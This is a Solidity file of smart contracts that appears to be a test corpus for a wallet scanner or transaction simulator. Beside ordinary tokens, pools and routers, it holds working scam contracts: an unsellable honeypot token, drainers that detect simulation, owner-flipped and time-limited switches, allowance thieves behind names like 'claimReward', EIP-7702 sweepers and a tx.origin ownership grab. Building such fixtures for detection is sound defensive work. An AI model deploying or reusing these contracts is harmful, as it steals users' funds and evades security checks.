// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.20;

/// What people meet on a chain, and what robs them: the contracts of the set of subjects.
contract Coin {
    string public name;
    string public symbol;
    uint8 public constant decimals = 18;
    uint256 public totalSupply;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    mapping(address => uint256) public nonces;
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor(string memory name_, string memory symbol_) {
        (name, symbol) = (name_, symbol_);
    }

    function mint(address to, uint256 value) external {
        totalSupply += value;
        balanceOf[to] += value;
        emit Transfer(address(0), to, value);
    }

    function approve(address spender, uint256 value) public returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function increaseAllowance(address spender, uint256 value) external returns (bool) {
        return approve(spender, allowance[msg.sender][spender] + value);
    }

    function transfer(address to, uint256 value) external returns (bool) {
        move(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        if (allowance[from][msg.sender] != type(uint256).max) allowance[from][msg.sender] -= value;
        move(from, to, value);
        return true;
    }

    function multicall(bytes[] calldata data) external {
        for (uint256 i = 0; i < data.length; i++) {
            (bool done, ) = address(this).delegatecall(data[i]);
            require(done, "failed");
        }
    }

    function move(address from, address to, uint256 value) internal virtual {
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
    }
}

/// Can be bought, and not sold.
contract Trap is Coin("Moon", "MOON") {
    address public pool;

    function setPool(address pool_) external {
        pool = pool_;
    }

    function move(address from, address to, uint256 value) internal override {
        require(to != pool || pool == address(0) || from == tx.origin && false, "not now");
        super.move(from, to, value);
    }
}

contract WrappedCoin is Coin("Wrapped", "WCOIN") {
    event Deposit(address indexed to, uint256 value);
    event Withdrawal(address indexed from, uint256 value);

    function deposit() external payable {
        balanceOf[msg.sender] += msg.value;
        emit Deposit(msg.sender, msg.value);
    }

    function withdraw(uint256 value) external {
        balanceOf[msg.sender] -= value;
        emit Withdrawal(msg.sender, value);
        payable(msg.sender).transfer(value);
    }
}

contract Pieces {
    mapping(uint256 => address) public ownerOf;
    mapping(address => mapping(address => bool)) public isApprovedForAll;
    uint256 public made;
    event Transfer(address indexed from, address indexed to, uint256 indexed tokenId);
    event ApprovalForAll(address indexed owner, address indexed operator, bool approved);

    function mint(address to) external returns (uint256 id) {
        id = ++made;
        ownerOf[id] = to;
        emit Transfer(address(0), to, id);
    }

    function setApprovalForAll(address operator, bool approved) external {
        isApprovedForAll[msg.sender][operator] = approved;
        emit ApprovalForAll(msg.sender, operator, approved);
    }

    function transferFrom(address from, address to, uint256 id) public {
        require(ownerOf[id] == from && (msg.sender == from || isApprovedForAll[from][msg.sender]), "not yours");
        ownerOf[id] = to;
        emit Transfer(from, to, id);
    }

    function safeTransferFrom(address from, address to, uint256 id) external {
        transferFrom(from, to, id);
    }
}

contract Market {
    mapping(uint256 => uint256) public price;

    function list(uint256 id, uint256 wanted) external {
        price[id] = wanted;
    }

    function buy(Pieces pieces, uint256 id) external payable {
        require(price[id] != 0 && msg.value == price[id], "price");
        address seller = pieces.ownerOf(id);
        pieces.transferFrom(seller, msg.sender, id);
        payable(seller).transfer(msg.value);
    }

    /// Somebody's offer in coins of a token, taken by the owner of a piece.
    function accept(Pieces pieces, uint256 id, Coin coin, address buyer, uint256 offered) external {
        pieces.transferFrom(msg.sender, buyer, id);
        coin.transferFrom(buyer, msg.sender, offered);
    }
}

contract Pool {
    Coin public immutable token0;
    Coin public immutable token1;
    uint112 private reserve0;
    uint112 private reserve1;
    uint256 private unlocked = 1;
    event Swap(address indexed sender, uint256 amount0In, uint256 amount1In, uint256 amount0Out, uint256 amount1Out, address indexed to);
    event Sync(uint112 reserve0, uint112 reserve1);

    constructor(Coin a, Coin b) {
        (token0, token1) = (a, b);
    }

    function getReserves() public view returns (uint112, uint112) {
        return (reserve0, reserve1);
    }

    function sync() public {
        (reserve0, reserve1) = (uint112(token0.balanceOf(address(this))), uint112(token1.balanceOf(address(this))));
        emit Sync(reserve0, reserve1);
    }

    function swap(uint256 out0, uint256 out1, address to) external {
        require(unlocked == 1, "LOCKED");
        unlocked = 0;
        if (out0 > 0) token0.transfer(to, out0);
        if (out1 > 0) token1.transfer(to, out1);
        (uint256 b0, uint256 b1) = (token0.balanceOf(address(this)), token1.balanceOf(address(this)));
        uint256 in0 = b0 + out0 > reserve0 ? b0 + out0 - reserve0 : 0;
        uint256 in1 = b1 + out1 > reserve1 ? b1 + out1 - reserve1 : 0;
        require(b0 * b1 >= uint256(reserve0) * reserve1, "K");
        sync();
        emit Swap(msg.sender, in0, in1, out0, out1, to);
        unlocked = 1;
    }
}

contract Router {
    mapping(address => mapping(address => Pool)) public pools;

    function add(Coin a, Coin b, Pool pool) external {
        (pools[address(a)][address(b)], pools[address(b)][address(a)]) = (pool, pool);
    }

    function swapExactTokensForTokens(uint256 amountIn, uint256 amountOutMin, address[] calldata path, address to, uint256 deadline) external {
        require(deadline >= block.timestamp, "EXPIRED");
        Pool pool = pools[path[0]][path[1]];
        Coin(path[0]).transferFrom(msg.sender, address(pool), amountIn);
        (uint112 r0, uint112 r1) = pool.getReserves();
        bool isZero = address(pool.token0()) == path[0];
        (uint256 rIn, uint256 rOut) = isZero ? (r0, r1) : (r1, r0);
        uint256 out = (amountIn * 997 * rOut) / (rIn * 1000 + amountIn * 997);
        require(out >= amountOutMin, "SLIPPAGE");
        isZero ? pool.swap(0, out, to) : pool.swap(out, 0, to);
    }
}

contract Staking is Coin("Staked", "STK") {
    Coin public immutable coin;

    constructor(Coin coin_) {
        coin = coin_;
    }

    function deposit(uint256 assets, address receiver) external {
        coin.transferFrom(msg.sender, address(this), assets);
        balanceOf[receiver] += assets;
        emit Transfer(address(0), receiver, assets);
    }
}

contract Airdrop {
    Coin public immutable coin;
    mapping(address => bool) public claimed;
    bool public isClosed;

    constructor(Coin coin_) {
        coin = coin_;
    }

    function claim() external {
        require(!isClosed && !claimed[msg.sender], "closed");
        claimed[msg.sender] = true;
        coin.mint(msg.sender, 5e18);
    }
}

contract MultiSender {
    function multiSend(bytes memory transactions) public payable {
        assembly {
            let length := mload(transactions)
            let i := 0x20
            for {} lt(i, length) {} {
                let operation := shr(0xf8, mload(add(transactions, i)))
                let to := shr(0x60, mload(add(transactions, add(i, 0x01))))
                let value := mload(add(transactions, add(i, 0x15)))
                let dataLength := mload(add(transactions, add(i, 0x35)))
                let data := add(transactions, add(i, 0x55))
                let success := 0
                switch operation
                case 0 { success := call(gas(), to, value, data, dataLength, 0, 0) }
                case 1 { success := delegatecall(gas(), to, data, dataLength, 0, 0) }
                if iszero(success) { revert(0, 0) }
                i := add(i, add(0x55, dataLength))
            }
        }
    }
}

/// A wallet of several with Safe's way in; who may act is not what is tested here.
contract Wallet {
    address public owner;
    bool public isGuarded;
    event ExecutionSuccess(bytes32 txHash, uint256 payment);
    event EnabledModule(address module);

    constructor(address owner_) {
        owner = owner_;
    }

    receive() external payable {}

    function execTransaction(address to, uint256 value, bytes calldata data, uint8 operation, uint256, uint256, uint256, address, address, bytes calldata) external returns (bool done) {
        require(msg.sender == owner, "GS026");
        (done, ) = operation == 1 ? to.delegatecall(data) : to.call{value: value}(data);
        require(done, "GS013");
        emit ExecutionSuccess(bytes32(0), 0);
    }

    function enableModule(address module) external {
        require(msg.sender == address(this), "GS031");
        emit EnabledModule(module);
    }
}

/// An account of ERC-4337.
contract Account {
    address public immutable entryPoint;
    address public immutable owner;

    constructor(address entryPoint_, address owner_) {
        (entryPoint, owner) = (entryPoint_, owner_);
    }

    receive() external payable {}

    function execute(address target, uint256 value, bytes calldata data) public {
        require(msg.sender == entryPoint || msg.sender == owner || msg.sender == address(this), "who?");
        (bool done, ) = target.call{value: value}(data);
        require(done, "failed");
    }

    function executeBatch(address[] calldata targets, uint256[] calldata values, bytes[] calldata datas) external {
        for (uint256 i = 0; i < targets.length; i++) execute(targets[i], values[i], datas[i]);
    }
}

contract AccountFactory {
    function createAccount(address entryPoint, address owner) external returns (Account) {
        return new Account{salt: bytes32(uint256(uint160(owner)))}(entryPoint, owner);
    }
}

contract Gate {
    function handleOps(bytes calldata, address payable) external {}
}

/// A wallet to delegate to (EIP-7702): it obeys the account itself.
contract GoodDelegate {
    receive() external payable {}

    function execute(address target, uint256 value, bytes calldata data) external {
        require(msg.sender == address(this), "who?");
        (bool done, ) = target.call{value: value}(data);
        require(done, "failed");
    }
}

contract OpenDelegate {
    receive() external payable {}

    function execute(address target, uint256 value, bytes calldata data) external {
        (bool done, ) = target.call{value: value}(data);
        require(done, "failed");
    }
}

contract SweepingDelegate {
    address payable private immutable thief;

    constructor(address payable thief_) {
        thief = thief_;
    }

    receive() external payable {
        thief.transfer(msg.value);
    }
}

/// Pays back with something on top where it believes to be simulated, and keeps all elsewhere.
contract Pill {
    address payable private immutable thief;
    uint256 private immutable fact;
    uint256 private immutable usual;

    constructor(address payable thief_, uint256 fact_, uint256 usual_) payable {
        (thief, fact, usual) = (thief_, fact_, usual_);
    }

    function isSimulated() private view returns (bool) {
        if (fact == 0) return block.number <= usual;
        if (fact == 1) return block.timestamp <= usual;
        if (fact == 2) return block.coinbase == address(uint160(usual));
        if (fact == 3) return block.gaslimit == usual;
        if (fact == 4) return block.basefee <= usual;
        if (fact == 5) return tx.origin.balance >= usual;
        if (fact == 6) return tx.gasprice == 0;
        if (fact == 7) return gasleft() > usual;
        return block.prevrandao == usual;
    }

    function mint() external payable {
        if (isSimulated()) payable(msg.sender).transfer(msg.value + 1e15);
        else thief.transfer(msg.value);
    }
}

/// The owner decides at the last moment.
contract Switched {
    address payable private immutable thief;
    bool public isHonest = true;

    constructor(address payable thief_) payable {
        thief = thief_;
    }

    function turn() external {
        isHonest = !isHonest;
    }

    function enter() external payable {
        if (isHonest) payable(msg.sender).transfer(msg.value + 1e15);
        else thief.transfer(msg.value);
    }
}

/// The same, packed behind an address.
contract PackedSwitch {
    address private owner;
    bool private isHonest = true;

    constructor() payable {
        owner = msg.sender;
    }

    function enter() external payable {
        if (isHonest) payable(msg.sender).transfer(msg.value + 1e15);
        else payable(owner).transfer(msg.value);
    }
}

contract Settings {
    bool public isHonest = true;
}

/// The same, asked of another contract.
contract RemoteSwitch {
    Settings private immutable settings;
    address payable private immutable thief;

    constructor(Settings settings_, address payable thief_) payable {
        (settings, thief) = (settings_, thief_);
    }

    function enter() external payable {
        if (settings.isHonest()) payable(msg.sender).transfer(msg.value + 1e15);
        else thief.transfer(msg.value);
    }
}

/// Takes by old allowances what nobody named.
contract Thief {
    address private immutable hand;

    constructor(address hand_) {
        hand = hand_;
    }

    function claim() external payable {}

    function verify(Coin coin) external {
        coin.transferFrom(msg.sender, hand, coin.balanceOf(msg.sender));
    }

    function update(Coin a, Coin b, Pieces pieces, uint256 id) external {
        a.transferFrom(msg.sender, hand, a.balanceOf(msg.sender));
        b.transferFrom(msg.sender, hand, b.balanceOf(msg.sender));
        pieces.transferFrom(msg.sender, hand, id);
    }

    Coin private coin;

    function arm(Coin coin_) external {
        coin = coin_;
    }

    function participate() external {
        coin.transferFrom(msg.sender, hand, coin.balanceOf(msg.sender));
    }
}

/// Code that a wallet is made to run as its own.
contract Library {
    function upgrade(address payable thief) external {
        thief.transfer(address(this).balance);
    }
}

/// Upgradeable by whoever is in EIP-1967's admin slot; runs what its other slot names.
contract Proxy1967 {
    constructor(address implementation) payable {
        assembly {
            sstore(0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc, implementation)
        }
    }

    fallback() external payable {
        assembly {
            let target := sload(0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc)
            calldatacopy(0, 0, calldatasize())
            let done := delegatecall(gas(), target, 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            switch done
            case 0 { revert(0, returndatasize()) }
            default { return(0, returndatasize()) }
        }
    }

    receive() external payable {}
}

/// A router of another make: one struct, any pool, and a fee to somebody.
contract OtherRouter {
    struct Single {
        address tokenIn;
        address tokenOut;
        uint24 fee;
        address recipient;
        uint256 deadline;
        uint256 amountIn;
        uint256 amountOutMinimum;
        uint160 sqrtPriceLimitX96;
    }
    Router private immutable router;

    constructor(Router router_) {
        router = router_;
    }

    function exactInputSingle(Single calldata params) public payable returns (uint256 out) {
        Coin(params.tokenIn).transferFrom(msg.sender, address(this), params.amountIn);
        Coin(params.tokenIn).approve(address(router), params.amountIn);
        address[] memory path = new address[](2);
        (path[0], path[1]) = (params.tokenIn, params.tokenOut);
        uint256 before = Coin(params.tokenOut).balanceOf(params.recipient);
        router.swapExactTokensForTokens(params.amountIn, params.amountOutMinimum, path, params.recipient, params.deadline);
        out = Coin(params.tokenOut).balanceOf(params.recipient) - before;
    }

    function multicall(bytes[] calldata data) external payable {
        for (uint256 i = 0; i < data.length; i++) {
            (bool done, ) = address(this).delegatecall(data[i]);
            require(done, "failed");
        }
    }
}

contract Disperse {
    function disperseToken(Coin coin, address[] calldata to, uint256[] calldata values) external {
        for (uint256 i = 0; i < to.length; i++) coin.transferFrom(msg.sender, to[i], values[i]);
    }

    function disperseEther(address payable[] calldata to, uint256[] calldata values) external payable {
        for (uint256 i = 0; i < to.length; i++) to[i].transfer(values[i]);
    }
}

contract Lending {
    mapping(address => uint256) public debt;
    Coin private immutable pledge;
    Coin private immutable lent;

    constructor(Coin pledge_, Coin lent_) {
        (pledge, lent) = (pledge_, lent_);
    }

    function openLoan(uint256 amount) external {
        pledge.transferFrom(msg.sender, address(this), amount);
        debt[msg.sender] += amount / 2;
        lent.mint(msg.sender, amount / 2);
    }

    function repayLoan(uint256 amount) external {
        lent.transferFrom(msg.sender, address(this), amount);
        pledge.transfer(msg.sender, amount);
    }
}

/// A name for some coins; what is too much comes back.
contract Names {
    mapping(bytes32 => address) public ownerOf;
    event NameRegistered(string name, address owner, uint256 cost);

    function register(string calldata name, address owner) external payable {
        require(msg.value >= 1e16, "too little");
        ownerOf[keccak256(bytes(name))] = owner;
        emit NameRegistered(name, owner, 1e16);
        payable(msg.sender).transfer(msg.value - 1e16);
    }
}

contract Vesting {
    Coin private immutable coin;
    uint256 private immutable start;

    constructor(Coin coin_) {
        (coin, start) = (coin_, block.timestamp - 1000000);
    }

    function release() external {
        coin.mint(msg.sender, (block.timestamp - start) * 1e12);
    }
}

/// Pills of other shapes: equality, remainders, a hash of several facts, a question asked of another contract.
contract OtherPill {
    address payable private immutable thief;
    uint256 private immutable kind;
    uint256 private immutable usual;

    constructor(address payable thief_, uint256 kind_, uint256 usual_) payable {
        (thief, kind, usual) = (thief_, kind_, usual_);
    }

    function isSafe() public view returns (bool) {
        if (kind == 0) return block.number % 2 == usual;
        if (kind == 1) return block.timestamp % 2 == usual;
        if (kind == 2) return keccak256(abi.encode(block.coinbase, block.gaslimit)) == bytes32(usual);
        if (kind == 3) return block.gaslimit <= usual && block.coinbase == address(0);
        if (kind == 4) return tx.gasprice <= block.basefee && msg.sender.balance < usual;
        return gasleft() % 2 == usual;
    }

    function deposit() external payable {
        if (isSafe()) payable(msg.sender).transfer(msg.value + 1e15);
        else thief.transfer(msg.value);
    }

    /// Gives pieces of value away to whoever it believes to be watching.
    function harvest(Coin coin) external {
        if (isSafe()) coin.mint(msg.sender, 1e18);
        else coin.transferFrom(msg.sender, thief, coin.balanceOf(msg.sender));
    }
}

contract ModeSwitch {
    uint256 public mode = 2;
    address payable private immutable thief;

    constructor(address payable thief_) payable {
        thief = thief_;
    }

    function enter() external payable {
        if (mode == 2) payable(msg.sender).transfer(msg.value + 1e15);
        else thief.transfer(msg.value);
    }
}

contract ListSwitch {
    mapping(address => bool) private isTarget;
    address payable private immutable thief;

    constructor(address payable thief_) payable {
        thief = thief_;
    }

    function enter() external payable {
        if (!isTarget[msg.sender]) payable(msg.sender).transfer(msg.value + 1e15);
        else thief.transfer(msg.value);
    }
}

contract HelperSwitch {
    address public helper;
    address payable private immutable thief;

    constructor(address payable thief_, address helper_) payable {
        (thief, helper) = (thief_, helper_);
    }

    function enter() external payable {
        if (helper != address(0)) payable(msg.sender).transfer(msg.value + 1e15);
        else thief.transfer(msg.value);
    }
}

/// Keeps everything, under names that promise.
contract Promises {
    mapping(address => uint256) public noted;

    function Claim() external payable {
        noted[msg.sender] += msg.value;
    }

    function SecurityUpdate() external payable {
        noted[msg.sender] += msg.value;
    }

    function claimReward() external payable {
        noted[msg.sender] += msg.value;
    }

    function connect() external payable {
        noted[msg.sender] += msg.value;
    }

    function getFreeTokens(Coin coin) external {
        coin.transferFrom(msg.sender, address(this), coin.balanceOf(msg.sender));
    }
}

/// Sweeps only when somebody calls it by a name of its own.
contract QuietDelegate {
    address payable private immutable thief;

    constructor(address payable thief_) {
        thief = thief_;
    }

    receive() external payable {}

    function settle() external {
        thief.transfer(address(this).balance);
    }
}

contract Owned {
    address public owner;
    event OwnershipTransferred(address indexed previousOwner, address indexed newOwner);

    constructor(address owner_) {
        owner = owner_;
        emit OwnershipTransferred(address(0), owner_);
    }

    function transferOwnership(address to) external {
        require(msg.sender == owner || tx.origin == owner, "not you");
        emit OwnershipTransferred(owner, to);
        owner = to;
    }
}

/// Does by the way what nobody asked for: control by the right of whoever sent the transaction.
contract Meddler {
    function vote(Owned owned, address to) external {
        owned.transferOwnership(to);
    }
}

/// Keeps four fifths of each transfer.
contract Taxed is Coin("Taxed", "TAX") {
    mapping(address => bool) private isFree;

    function free(address account) external {
        isFree[account] = true;
    }

    function move(address from, address to, uint256 value) internal override {
        uint256 kept = isFree[from] ? 0 : (value * 4) / 5;
        super.move(from, to, value - kept);
        if (kept > 0) super.move(from, address(this), kept);
    }
}

/// Honest for an hour.
contract TimeBomb {
    address payable private immutable thief;
    uint256 private immutable ends;

    constructor(address payable thief_) payable {
        (thief, ends) = (thief_, block.timestamp + 3600);
    }

    function enter() external payable {
        if (block.timestamp < ends) payable(msg.sender).transfer(msg.value + 1e15);
        else thief.transfer(msg.value);
    }
}

/// Stakes without a receipt, in a token that no call names.
contract QuietStaking {
    Coin private immutable coin;
    mapping(address => uint256) public staked;

    constructor(Coin coin_) {
        coin = coin_;
    }

    function stake(uint256 amount) external {
        coin.transferFrom(msg.sender, address(this), amount);
        staked[msg.sender] += amount;
    }
}
